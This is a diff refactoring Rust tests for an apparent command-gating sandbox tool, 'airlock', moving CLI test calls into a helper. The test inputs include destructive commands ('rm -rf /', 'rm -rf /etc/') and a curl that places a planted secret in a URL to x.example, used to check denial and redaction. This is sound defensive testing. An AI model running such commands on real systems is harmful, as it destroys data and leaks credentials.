@@ -101,7 +101,7 @@ impl Walk<'_> {
         let schema = self.stack.airlock(&["schema"]).stdout;
         let schema: Value = serde_json::from_slice(&schema).expect("a schema");
         for (kind, about) in schema["activities"].as_object().expect("activities") {
-            let queue = self.queue_of(kind);
+            let queue = Self::queue_of(kind);
             let fields: Vec<String> = about["input"]["properties"]
                 .as_object()
                 .map(|fields| fields.keys().cloned().collect())
@@ -130,7 +130,7 @@ impl Walk<'_> {
         self.stack.start_activity(&unknown, "of-an-unknown-type", &json!({}));
     }
 
-    fn queue_of(&self, kind: &str) -> &'static str {
+    fn queue_of(kind: &str) -> &'static str {
         let admin = [
             "deleteBudget",
             "topUpBudget",
@@ -285,8 +285,8 @@ impl Walk<'_> {
         assert!(answer["redactions"].as_object().is_some_and(|r| !r.is_empty()), "{answer}");
         // The worker's own variable, put together in the sandbox.
         let (head, tail) = OWN.split_at(9);
-        let own = json!({"runId": account, "command": format!("H={head}; echo \"$H{tail}\"")});
-        let mut shown = own.clone();
+        let mut shown =
+            json!({"runId": account, "command": format!("H={head}; echo \"$H{tail}\"")});
         shown["artifacts"] = json!(["nothing-*"]);
         self.run("safeExecuteCode", &shown);
     }
@@ -294,9 +294,7 @@ impl Walk<'_> {
     fn batches(&mut self) {
         let account = self.stack.budget("50.00");
         let mut one = self.full(&account);
-        for field in ["runId"] {
-            one.as_object_mut().expect("an object").remove(field);
-        }
+        one.as_object_mut().expect("an object").remove("runId");
         let echo = format!("echo {}", self.plant("batch command"));
         let input =
             json!({"runId": account, "commands": [echo, one, "exit 3"], "stopOnFailure": false});
@@ -508,79 +506,8 @@ impl Walk<'_> {
     }
 
     fn command_line(&mut self) {
-        let ready = self.stack.ready_file().display().to_string();
-        let g = &self.garden;
         let account = self.stack.budget("10.00");
-        let calls: Vec<Vec<String>> = vec![
-            vec![
-                "exec".into(),
-                "--from".into(),
-                ready.clone(),
-                "--run-id".into(),
-                account.clone(),
-                "--".into(),
-                format!("echo {}", g.plant("cli exec")),
-            ],
-            vec![
-                "exec".into(),
-                "--json".into(),
-                "--from".into(),
-                ready.clone(),
-                "--run-id".into(),
-                account.clone(),
-                "--".into(),
-                format!("echo {}; exit 4", g.plant("cli exec json")),
-            ],
-            vec![
-                "exec".into(),
-                "--from".into(),
-                ready.clone(),
-                "--run-id".into(),
-                account.clone(),
-                "--".into(),
-                format!("rm -rf /{}", g.plant("cli denied")),
-            ],
-            vec![
-                "exec".into(),
-                "--from".into(),
-                ready.clone(),
-                "--run-id".into(),
-                g.plant("cli run"),
-                "--".into(),
-                "true".into(),
-            ],
-            vec![
-                "check".into(),
-                "--explain".into(),
-                "--".into(),
-                format!("rm -rf /etc/{}", g.plant("cli check")),
-            ],
-            vec![
-                "check".into(),
-                "--json".into(),
-                "--".into(),
-                format!("curl https://u:{}@x.example/", g.plant("cli check json")),
-            ],
-            vec![
-                "check".into(),
-                "--action-type".into(),
-                g.plant("cli action"),
-                "--".into(),
-                "true".into(),
-            ],
-            vec!["schema".into(), g.plant("cli schema")],
-            vec![
-                "budget".into(),
-                "status".into(),
-                "--from".into(),
-                ready.clone(),
-                g.plant("cli budget"),
-            ],
-            vec!["budget".into(), "ledger".into(), "--from".into(), ready.clone(), account],
-            vec!["sandbox".into(), "list".into(), "--from".into(), ready.clone(), "--json".into()],
-            vec!["sandbox".into(), "kill".into(), "--from".into(), ready, g.plant("cli sandbox")],
-        ];
-        for call in calls {
+        for call in self.calls(&account) {
             let name = format!("airlock {}", call[0]);
             let output = Command::new(airlock())
                 .args(&call)
@@ -601,6 +528,39 @@ impl Walk<'_> {
         let answered = places::piped(&["check", "--jsonl"], &format!("{line}\n"));
         let answered: Value = serde_json::from_slice(&answered).expect("JSON");
         self.places.add("airlock check --jsonl", answered["decision"].to_string());
+    }
+
+    /// Command lines, a secret in each.
+    fn calls(&self, account: &str) -> Vec<Vec<String>> {
+        let ready = self.stack.ready_file().display().to_string();
+        let g = &self.garden;
+        let words = |words: &[&str], last: String| {
+            words.iter().map(|word| (*word).to_owned()).chain([last]).collect::<Vec<_>>()
+        };
+        let exec = |more: &[&str], line: String| {
+            let head = ["exec", "--from", &ready, "--run-id", account];
+            words(&[&head[..], more, &["--"]].concat(), line)
+        };
+        vec![
+            exec(&[], format!("echo {}", g.plant("cli exec"))),
+            exec(&["--json"], format!("echo {}; exit 4", g.plant("cli exec json"))),
+            exec(&[], format!("rm -rf /{}", g.plant("cli denied"))),
+            words(
+                &["exec", "--from", &ready, "--run-id", &g.plant("cli run"), "--"],
+                "true".into(),
+            ),
+            words(&["check", "--explain", "--"], format!("rm -rf /etc/{}", g.plant("cli check"))),
+            words(
+                &["check", "--json", "--"],
+                format!("curl https://u:{}@x.example/", g.plant("cli check json")),
+            ),
+            words(&["check", "--action-type", &g.plant("cli action"), "--"], "true".into()),
+            words(&["schema"], g.plant("cli schema")),
+            words(&["budget", "status", "--from", &ready], g.plant("cli budget")),
+            words(&["budget", "ledger", "--from", &ready], account.to_owned()),
+            words(&["sandbox", "list", "--from", &ready], "--json".into()),
+            words(&["sandbox", "kill", "--from", &ready], g.plant("cli sandbox")),
+        ]
     }
 }
 
